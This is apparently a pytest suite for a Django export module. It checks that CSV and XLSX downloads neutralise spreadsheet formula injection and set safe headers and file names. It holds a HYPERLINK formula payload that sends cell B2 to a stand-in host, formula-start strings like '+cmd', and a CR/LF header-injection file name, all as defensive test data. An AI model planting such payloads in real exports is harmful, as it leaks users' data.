"""Every export comes out of core.exports: formulas inert, text cells, Beijing time, a Chinese
file name, never cached. A person (or a place) named like a formula is exported through every
download the product offers and must come out as plain text."""
from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from core import exports
from enrollment.models import Region
from tests import factories

PAYLOAD = '=HYPERLINK("http://x"&B2,"点此")'
Y = 2027


def _xlsx_cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb for row in ws.iter_rows() for cell in row]


def assert_xlsx_inert(content: bytes) -> None:
    hits = [c for c in _xlsx_cells(content) if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert hits, "the payload should be in the file"
    for cell in hits:
        assert cell.data_type == "s" and not cell.value.startswith(exports.FORMULA_STARTS), \
            (cell.value, cell.data_type)
    assert any(cell.value == "'" + PAYLOAD for cell in hits)


def assert_csv_inert(text: str) -> None:
    fields = [f for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for f in row]
    hits = [f for f in fields if "HYPERLINK" in f]
    assert hits, "the payload should be in the file"
    assert not any(f.startswith(exports.FORMULA_STARTS) for f in hits), hits
    assert "'" + PAYLOAD in hits


# --- the builder itself ------------------------------------------------------------------------

@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"])
def test_formula_starts_are_escaped(value):
    assert exports.escape(value) == "'" + value


@pytest.mark.parametrize("value", ["张三", "430121198005010017", 12, None, 1.5, dt.date(2026, 1, 1)])
def test_ordinary_values_pass_unchanged(value):
    assert exports.escape(value) == value


def test_as_of_line_is_in_beijing_time():
    moment = dt.datetime(2026, 12, 2, 18, 30, tzinfo=dt.timezone.utc)
    assert exports.as_of_line(moment) == "数据截至 2026-12-03 02:30（北京时间）"


def test_xlsx_response_text_cells_name_and_no_store():
    response = exports.xlsx_response("人员名单.xlsx", exports.Sheet(
        title="名单", header=["姓名", "证件号码"], rows=[[PAYLOAD, "430121198005010017"]]))
    assert response["Cache-Control"] == "no-store"
    assert "filename*=UTF-8''%E4%BA%BA%E5%91%98%E5%90%8D%E5%8D%95.xlsx" in \
        response["Content-Disposition"]
    wb = load_workbook(io.BytesIO(response.content))
    ws = wb.active
    assert ws["B2"].value == "430121198005010017" and ws["B2"].data_type == "s"
    assert ws["B2"].number_format == "@"
    assert wb[exports.NOTES_SHEET]["A1"].value.startswith("数据截至 ")
    assert_xlsx_inert(response.content)


def test_csv_response_escapes_and_says_when():
    response = exports.csv_response("名单.csv", ["姓名"], [[PAYLOAD], ["+8613900001111"]])
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff") and response["Cache-Control"] == "no-store"
    assert "'+8613900001111" in text and "数据截至" in text.splitlines()[-1]
    assert_csv_inert(text)


@pytest.mark.parametrize("index", [0, 1, 2])  # csv, xlsx, tsv
def test_admin_export_formats_escape_every_formula_start(index):
    fmt = exports.admin_export_formats()[index]()
    data = tablib.Dataset(["+cmd", "@x", 5], headers=["姓名", "备注", "数"])
    out = fmt.export_data(data)
    if fmt.get_title() == "xlsx" or getattr(fmt, "CONTENT_TYPE", "").endswith("sheet"):
        values = [c.value for c in _xlsx_cells(out)]
    else:
        values = out if isinstance(out, str) else out.decode()
    assert "'+cmd" in str(values) and "'@x" in str(values)


# --- every download of the product -----------------------------------------------------------

@pytest.fixture
def villain(make_person):
    return make_person(factories.GRID, name=PAYLOAD, phone="13900001111")


def test_person_csv_export(as_user, village_clerk, villain):
    response = as_user(village_clerk).get("/persons/export/")
    assert_csv_inert(response.content.decode("utf-8"))
    assert response["Cache-Control"] == "no-store"


@pytest.mark.parametrize("fmt,reader", [("0", "csv"), ("1", "xlsx")])
def test_admin_person_export(as_user, village_clerk, villain, fmt, reader):
    response = as_user(village_clerk).post("/admin/enrollment/person/export/", {
        "format": fmt, "resource": "0",
        **{f"personresource_{f}": "on" for f in ["name", "id_number"]}})
    assert response.status_code == 200
    if reader == "csv":
        assert_csv_inert(response.content.decode("utf-8-sig"))
    else:
        assert_xlsx_inert(response.content)


@pytest.fixture
def ledger(county_admin, villain):
    from outreach import services

    services.ledger_generate(actor=county_admin, year=Y, region=Region.objects.get(
        code=factories.COUNTY))


def test_outreach_ledger_export(as_user, county_admin, ledger):
    response = as_user(county_admin).get("/outreach/export/", {"year": Y})
    assert_xlsx_inert(response.content)
    assert response["Cache-Control"] == "no-store"


def test_admin_ledger_export(as_user, village_clerk, ledger):
    response = as_user(village_clerk).post("/admin/outreach/ledgerentry/export/", {
        "format": "0", "resource": "0",
        **{f"ledgerentryresource_{f}": "on" for f in ["name", "id_number"]}})
    assert response.status_code == 200
    assert_csv_inert(response.content.decode("utf-8-sig"))


def test_outreach_feedback_export(as_user, county_admin, ledger):
    from outreach import services

    services.batch_push(actor=county_admin, year=Y,
                        township=Region.objects.get(code=factories.TOWNSHIP))
    Region.objects.filter(code=factories.TOWNSHIP).update(name=PAYLOAD)
    response = as_user(county_admin).get("/outreach/feedback/", {
        "year": Y, "level": "township", "export": 1})
    assert_xlsx_inert(response.content)


def test_dashboard_export(as_user, township_officer, villain):
    from dashboards import rollups

    Region.objects.filter(code=factories.VILLAGE).update(name=PAYLOAD)
    rollups.refresh(years=[Y])
    response = as_user(township_officer).get(reverse("dashboards:export"), {"year": Y})
    assert_xlsx_inert(response.content)
    assert response["Cache-Control"] == "no-store"


def test_claims_error_file(as_user, village_clerk, villain):
    from tests.benefits.test_recalc import ensure_policies

    ensure_policies()
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerows([["证件号码", "年度", "基金支付金额", "使用激励额度"],
                      [villain.id_number, "2025", PAYLOAD, "否"]])
    client = as_user(village_clerk)
    client.post(reverse("claims_upload"), {"file": SimpleUploadedFile(
        "claims.csv", out.getvalue().encode("utf-8"))})
    response = client.get(reverse("claims_errors"))
    assert response.status_code == 200
    assert_xlsx_inert(response.content)
    assert response["Cache-Control"] == "no-store"


def test_content_disposition_has_a_safe_ascii_fallback():
    header = exports.content_disposition('东山村"\r\n2027年.xlsx')
    assert header.startswith('attachment; filename="2027.xlsx"; filename*=UTF-8\'\'')
    assert "\r" not in header and "\n" not in header
    assert exports.content_disposition("人员名单.csv").startswith('attachment; filename="export.csv"')
